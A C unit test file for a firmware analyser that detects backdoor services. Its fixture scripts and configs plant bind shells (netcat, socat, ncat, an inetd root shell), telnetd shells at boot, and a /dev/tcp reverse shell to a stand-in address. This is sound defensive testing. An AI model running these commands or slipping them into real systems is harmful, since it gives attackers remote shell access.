/*
 * tests/unit/test_services.c: the services analyser (lib/analyze/services.c), driven through
 * the stand-in driver of harness_text.c.
 *
 * Planted: telnetd shells at boot in inittab, in an init.d script (through a variable and
 * start-stop-daemon) and in an OpenWrt procd script, dropbear with password logins on port
 * 2222, `nc -l -p 4444 -e /bin/sh`, busybox nc -ll, socat, a /dev/tcp reverse shell, a
 * mkfifo pipeline, inetd and xinetd telnet, a systemd unit, sshd_config and OpenWrt
 * config/dropbear, setuid files. Every expected finding is checked for its file, the offset
 * of its line (found with strstr in the fixture text, not taken from the analyser) and the
 * line number in its detail. Decoys that name telnetd without starting it (killall,
 * comments, echo, here-documents, --stop) must give nothing.
 * Real content: the scripts and configs of 26 real Debian packages (sbom fixture) must give no
 * high or critical finding; the OpenWrt-like fixture tree gives exactly what
 * make-fixtures.sh planted. Hostile: 10 MB scripts with 1 MB lines, NUL bytes, 100,000
 * repetitions, endless continuations and unterminated quotes, in bounded time and findings.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "harness_text.h"
#include "base/base.h"

static vouch_findings *
run(const stub_file *files, size_t n)
{
	vouch_findings *fs;
	vouch_analysis_opts o = {0};
	assert_int_equal(vouch_findings_new(&fs), VOUCH_OK);
	assert_int_equal(stub_run(&vouch_analyzer_services, &o, files, n, fs), VOUCH_OK);
	return fs;
}

/* Offset of the line that contains `needle`, and its number. */
static uint64_t
off_of(const char *text, const char *needle, unsigned *lineno)
{
	const char *p = strstr(text, needle);
	assert_non_null(p);
	while (p > text && p[-1] != '\n') {
		p--;
	}
	unsigned no = 1;
	for (const char *q = text; q < p; q++) {
		no += *q == '\n';
	}
	if (lineno) {
		*lineno = no;
	}
	return (uint64_t)(p - text);
}

/* Exactly one finding `id` in the file ending with `path`, at the line holding `needle`,
 * with "line=N" in its detail; returns it. */
static const vouch_finding *
expect_at(vouch_findings *fs, const char *id, const char *path, const char *text,
	  const char *needle)
{
	unsigned no;
	uint64_t off = off_of(text, needle, &no);
	size_t n;
	const vouch_finding *v = vouch_findings_list(fs, &n), *hit = NULL;
	size_t c = 0;
	for (size_t i = 0; i < n; i++) {
		size_t a = strlen(v[i].path), b = strlen(path);
		if (strcmp(v[i].id, id) == 0 && a >= b && strcmp(v[i].path + a - b, path) == 0 &&
		    v[i].offset == off) {
			hit = &v[i];
			c++;
		}
	}
	if (c != 1) {
		printf("expected one %s in %s at offset %llu (line %u), found %zu\n", id, path,
		       (unsigned long long)off, no, c);
	}
	assert_int_equal(c, 1);
	char want[32];
	snprintf(want, sizeof want, "line=%u", no);
	assert_non_null(strstr(hit->detail, want));
	assert_non_null(hit->evidence);
	return hit;
}

static size_t
count_sev(vouch_findings *fs, vouch_severity min)
{
	size_t n, c = 0;
	const vouch_finding *v = vouch_findings_list(fs, &n);
	for (size_t i = 0; i < n; i++) {
		c += v[i].severity >= min;
	}
	return c;
}

static size_t
total(vouch_findings *fs)
{
	size_t n;
	vouch_findings_list(fs, &n);
	return n;
}

/* ---- planted ---------------------------------------------------------------------------- */

static const char inittab[] =
	"# busybox inittab\n"
	"::sysinit:/etc/init.d/rcS\n"
	"::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"
	"ttyS0::askfirst:-/bin/sh\n"
	"tty1::respawn:/sbin/getty -L tty1 115200 vt100\n"
	"::sysinit:/bin/sh /etc/rc.sh\n"
	"::shutdown:/bin/umount -a -r\n";

static const char initd[] =
	"#!/bin/sh\n"
	"# telnet backdoor disguised as a service\n"
	"DAEMON=/usr/sbin/telnetd\n"
	"ARGS=\"-p 2323 -l /bin/sh\"\n"
	"case \"$1\" in\n"
	"start)\n"
	"\tstart-stop-daemon -S -b -x $DAEMON -- $ARGS\n"
	"\t;;\n"
	"stop)\n"
	"\tstart-stop-daemon -K -x /usr/sbin/telnetd\n"
	"\tkillall telnetd\n"
	"\t;;\n"
	"esac\n";

static const char rcs[] =
	"#!/bin/sh\n"
	"mount -t proc proc /proc\n"
	"echo \"starting telnetd\" > /dev/console\n"
	"# telnetd -l /bin/sh\n"
	"[ -x /usr/sbin/dropbear ] && /usr/sbin/dropbear -p 2222 \\\n"
	"\t-r /etc/dropbear/key -R\n"
	"/usr/sbin/dropbear -s -g -p 22\n"
	"nc -l -p 4444 -e /bin/sh &\n"
	"busybox nc -ll -p 5555 -e ash &\n"
	"socat TCP-LISTEN:6666,reuseaddr,fork EXEC:/bin/bash,pty,stderr &\n"
	"bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &\n"
	"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 7777 > /tmp/f &\n"
	"cat > /tmp/notes <<'EOF'\n"
	"telnetd -l /bin/sh\n"
	"EOF\n"
	"nc -l -p 80 > /tmp/upload\n"
	"pidof telnetd || logger no telnetd\n";

static const char procd[] =
	"#!/bin/sh /etc/rc.common\n"
	"START=50\n"
	"USE_PROCD=1\n"
	"start_service() {\n"
	"\tprocd_open_instance\n"
	"\tprocd_set_param command /usr/sbin/telnetd -F\n"
	"\tprocd_append_param command -l /bin/login.sh\n"
	"\tprocd_close_instance\n"
	"}\n";

static const char inetd[] =
	"#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n"
	"telnet stream tcp nowait root /usr/sbin/tcpd in.telnetd\n"
	"31337 stream tcp nowait root /bin/sh sh -i\n"
	"ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n";

static const char xinetd[] =
	"service telnet\n"
	"{\n"
	"\tdisable = no\n"
	"\tsocket_type = stream\n"
	"\tserver = /usr/sbin/in.telnetd\n"
	"\tport = 2323\n"
	"}\n";

static const char xinetd_off[] =
	"service telnet\n{\n\tdisable = yes\n\tserver = /usr/sbin/in.telnetd\n}\n";

static const char unit[] =
	"[Unit]\nDescription=debug\n[Service]\n"
	"ExecStart=-/usr/bin/ncat --listen 9999 --exec /bin/bash\n"
	"[Install]\nWantedBy=multi-user.target\n";

static const char sshd[] =
	"#PermitRootLogin prohibit-password\n"
	"Port 22\n"
	"Port 2200\n"
	"PermitRootLogin yes\n"
	"PermitRootLogin no\n"
	"PasswordAuthentication yes\n"
	"PermitEmptyPasswords no\n"
	"Match User backup\n"
	"\tPermitEmptyPasswords yes\n";

static const char uci[] =
	"config dropbear\n"
	"\toption PasswordAuth 'on'\n"
	"\toption RootPasswordAuth 'on'\n"
	"\toption Port '2222'\n"
	"\n"
	"config dropbear\n"
	"\toption enable '0'\n"
	"\toption PasswordAuth 'on'\n";

static void
test_planted(void **state)
{
	(void)state;
	stub_file files[] = {
		{"fw/squashfs/etc/inittab", inittab, sizeof inittab - 1, 0100644, 0},
		{"fw/squashfs/etc/init.d/S50svc", initd, sizeof initd - 1, 0100755, 0},
		{"fw/squashfs/etc/init.d/rcS", rcs, sizeof rcs - 1, 0100755, 0},
		{"fw/squashfs/etc/init.d/telnet", procd, sizeof procd - 1, 0100755, 0},
		{"fw/squashfs/etc/inetd.conf", inetd, sizeof inetd - 1, 0100644, 0},
		{"fw/squashfs/etc/xinetd.d/telnet", xinetd, sizeof xinetd - 1, 0100644, 0},
		{"fw/squashfs/etc/xinetd.d/telnet-off", xinetd_off, sizeof xinetd_off - 1, 0100644,
		 0},
		{"fw/squashfs/lib/systemd/system/debug.service", unit, sizeof unit - 1, 0100644, 0},
		{"fw/squashfs/etc/ssh/sshd_config", sshd, sizeof sshd - 1, 0100644, 0},
		{"fw/squashfs/etc/config/dropbear", uci, sizeof uci - 1, 0100644, 0},
	};
	vouch_findings *fs = run(files, VOUCH_ARRAY_LEN(files));
	stub_print(fs);
	size_t expected = 0;
	const vouch_finding *f;

	/* inittab */
	f = expect_at(fs, "service.telnet", "etc/inittab", inittab, "telnetd -F -l");
	assert_int_equal(f->severity, VOUCH_SEV_HIGH);
	f = expect_at(fs, "service.bind-shell", "etc/inittab", inittab, "telnetd -F -l");
	assert_int_equal(f->severity, VOUCH_SEV_CRITICAL);
	f = expect_at(fs, "service.console-shell", "etc/inittab", inittab, "ttyS0::askfirst");
	assert_non_null(strstr(f->detail, "tty=ttyS0"));
	expected += 3;

	/* init.d script through variables and start-stop-daemon */
	f = expect_at(fs, "service.telnet", "S50svc", initd, "start-stop-daemon -S");
	assert_non_null(strstr(f->detail, "port=2323"));
	expect_at(fs, "service.bind-shell", "S50svc", initd, "start-stop-daemon -S");
	expect_at(fs, "service.nonstandard-port", "S50svc", initd, "start-stop-daemon -S");
	expected += 3;

	/* rcS: dropbear across a continuation, nc, busybox nc, socat, /dev/tcp, pipeline */
	f = expect_at(fs, "service.ssh-password", "init.d/rcS", rcs, "dropbear -p 2222");
	assert_non_null(strstr(f->detail, "port=2222"));
	assert_non_null(strstr(f->detail, "root_password=yes"));
	expect_at(fs, "service.nonstandard-port", "init.d/rcS", rcs, "dropbear -p 2222");
	f = expect_at(fs, "service.bind-shell", "init.d/rcS", rcs, "nc -l -p 4444");
	assert_int_equal(f->severity, VOUCH_SEV_CRITICAL);
	assert_non_null(strstr(f->detail, "port=4444"));
	assert_non_null(strstr(f->evidence, "nc -l -p 4444 -e /bin/sh"));
	expect_at(fs, "service.bind-shell", "init.d/rcS", rcs, "busybox nc -ll");
	f = expect_at(fs, "service.bind-shell", "init.d/rcS", rcs, "socat TCP-LISTEN");
	assert_int_equal(f->severity, VOUCH_SEV_CRITICAL);
	expect_at(fs, "service.reverse-shell", "init.d/rcS", rcs, "/dev/tcp/");
	expect_at(fs, "service.bind-shell", "init.d/rcS", rcs, "mkfifo");
	expected += 7;

	/* procd: telnet with a login program that is not a shell */
	f = expect_at(fs, "service.telnet", "init.d/telnet", procd, "procd_set_param command");
	assert_non_null(strstr(f->detail, "login=/bin/login.sh"));
	expected += 1;

	/* inetd: tcpd-wrapped telnet, a shell on 31337 */
	expect_at(fs, "service.telnet", "inetd.conf", inetd, "telnet stream tcp nowait root /usr/sbin/tcpd");
	f = expect_at(fs, "service.bind-shell", "inetd.conf", inetd, "31337");
	assert_non_null(strstr(f->detail, "port=31337"));
	expected += 2;

	/* xinetd: telnet on 2323 (the disabled one gives nothing) */
	f = expect_at(fs, "service.telnet", "xinetd.d/telnet", xinetd, "server =");
	assert_non_null(strstr(f->detail, "port=2323"));
	expect_at(fs, "service.nonstandard-port", "xinetd.d/telnet", xinetd, "server =");
	expected += 2;

	/* systemd */
	f = expect_at(fs, "service.bind-shell", "debug.service", unit, "ExecStart=");
	assert_non_null(strstr(f->detail, "port=9999"));
	assert_int_equal(f->severity, VOUCH_SEV_CRITICAL);
	expected += 1;

	/* sshd_config: first value wins; Port 2200; Match block not read */
	expect_at(fs, "service.nonstandard-port", "sshd_config", sshd, "Port 2200");
	expect_at(fs, "service.ssh-root-login", "sshd_config", sshd, "PermitRootLogin yes");
	expect_at(fs, "service.ssh-password", "sshd_config", sshd, "PasswordAuthentication yes");
	expected += 3;

	/* OpenWrt UCI dropbear */
	f = expect_at(fs, "service.ssh-password", "config/dropbear", uci, "PasswordAuth 'on'");
	assert_non_null(strstr(f->detail, "root_password=yes"));
	expect_at(fs, "service.nonstandard-port", "config/dropbear", uci, "Port '2222'");
	expected += 2;

	/* nothing else: the decoys stayed quiet */
	assert_int_equal(total(fs), expected);
	vouch_findings_free(fs);
}

static void
test_setuid(void **state)
{
	(void)state;
	static const char elf[] = "\x7f" "ELF";
	stub_file files[] = {
		{"fw/usr/bin/debugd", elf, 4, 0104755, 0},
		{"fw/bin/busybox", elf, 4, 0104755, 0},
		{"fw/usr/bin/passwd", elf, 4, 0104755, 0},
		{"fw/usr/bin/mine", elf, 4, 0104755, 1000}, /* setuid, not root */
		{"fw/usr/bin/plain", elf, 4, 0100755, 0},
		{"fw/usr/bin/sgid", elf, 4, 0102755, 0},
	};
	vouch_findings *fs = run(files, VOUCH_ARRAY_LEN(files));
	stub_print(fs);
	assert_int_equal(total(fs), 1);
	const vouch_finding *f = stub_find(fs, "service.setuid-root", "usr/bin/debugd");
	assert_non_null(f);
	assert_int_equal(f->severity, VOUCH_SEV_LOW);
	assert_non_null(strstr(f->detail, "mode=4755"));
	vouch_findings_free(fs);
}

/* ---- hostile ------------------------------------------------------------------------------ */

static void
test_hostile(void **state)
{
	(void)state;
	size_t cap = 16u << 20, len = 0;
	char *b = malloc(cap);
	assert_non_null(b);
	len += (size_t)snprintf(b, cap, "#!/bin/sh\n");
	/* 100,000 telnetd lines: the findings stay bounded */
	for (int i = 0; i < 100000; i++) {
		len += (size_t)snprintf(b + len, cap - len, "telnetd -p %d\n", 2000 + i % 1000);
	}
	/* a 1 MB line, 1 MB of continuations, an unterminated quote, NUL bytes */
	memset(b + len, 'x', 1u << 20);
	len += 1u << 20;
	b[len++] = '\n';
	for (int i = 0; i < 300000; i++) {
		b[len++] = '\\';
		b[len++] = '\n';
		b[len++] = 'a';
	}
	b[len++] = '\n';
	const char *tail = "echo \"unterminated ' ( $( `\nnc\0-l -e /bin/sh\n((((((((((((\n"
			   "cat <<EOF\n";
	memcpy(b + len, tail, 60);
	len += 60;
	memset(b + len, ';', 6u << 20);
	len += 6u << 20;
	assert_true(len <= cap);
	stub_file files[] = {
		{"fw/etc/init.d/rcS", b, len, 0100755, 0},
		{"fw/etc/inittab", b, len, 0100644, 0},
		{"fw/etc/inetd.conf", b, len, 0100644, 0},
		{"fw/etc/ssh/sshd_config", b, len, 0100644, 0},
		{"fw/etc/config/dropbear", b, len, 0100644, 0},
		{"fw/etc/xinetd.conf", b, len, 0100644, 0},
		{"fw/lib/systemd/system/x.service", b, len, 0100644, 0},
	};
	double t0 = vouch_now();
	vouch_findings *fs = run(files, VOUCH_ARRAY_LEN(files));
	double dt = vouch_now() - t0;
	printf("7 hostile files of %zu bytes: %.2f s, %zu findings\n", len, dt, total(fs));
	assert_true(dt < 30.0);
	/* per file: at most 64 findings and one limit finding */
	assert_true(total(fs) <= 7 * 65);
	assert_int_equal(stub_count(fs, "limit.service-findings", "init.d/rcS", UINT64_MAX), 1);
	assert_true(stub_count(fs, "service.telnet", "init.d/rcS", UINT64_MAX) > 0);
	/* the line with a NUL byte is skipped whole */
	assert_int_equal(stub_count(fs, "service.bind-shell", NULL, UINT64_MAX), 0);
	vouch_findings_free(fs);
	free(b);
}

/* ---- real trees ------------------------------------------------------------------------- */


static void
test_real_debian_tree(void **state)
{
	(void)state;
	char dir[4096];
	if (!stub_fixture_dir("sbom/root", dir, sizeof dir)) {
		skip();
	}
	stub_file *tree_files = NULL;
	size_t n = stub_load_tree(dir, &tree_files);
	assert_true(n > 100);
	vouch_findings *fs = run(tree_files, n);
	printf("services over %zu files of real Debian packages (%s):\n", n, dir);
	stub_print_counts(fs);
	stub_print(fs);
	assert_int_equal(count_sev(fs, VOUCH_SEV_HIGH), 0);
	vouch_findings_free(fs);
	stub_free_tree(tree_files, n);
}

static void
test_real_openwrt_tree(void **state)
{
	(void)state;
	char dir[4096];
	if (!stub_fixture_dir("rootfs", dir, sizeof dir)) {
		skip();
	}
	stub_file *tree_files = NULL;
	size_t n = stub_load_tree(dir, &tree_files);
	assert_true(n > 5);
	vouch_findings *fs = run(tree_files, n);
	printf("services over the OpenWrt-like fixture tree (%zu files):\n", n);
	stub_print_counts(fs);
	stub_print(fs);
	/* make-fixtures.sh writes: "ttyS0::askfirst:/bin/ash --login" and, in init.d/rcS,
	 * "/usr/sbin/dropbear -p 22 -r ..." (no -s: password logins, root included) */
	assert_int_equal(stub_count(fs, "service.console-shell", "etc/inittab", UINT64_MAX), 1);
	assert_int_equal(stub_count(fs, "service.ssh-password", "etc/init.d/rcS", UINT64_MAX), 1);
	assert_int_equal(count_sev(fs, VOUCH_SEV_HIGH), 0);
	vouch_findings_free(fs);
	stub_free_tree(tree_files, n);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_planted),
		cmocka_unit_test(test_setuid),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_real_debian_tree),
		cmocka_unit_test(test_real_openwrt_tree),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
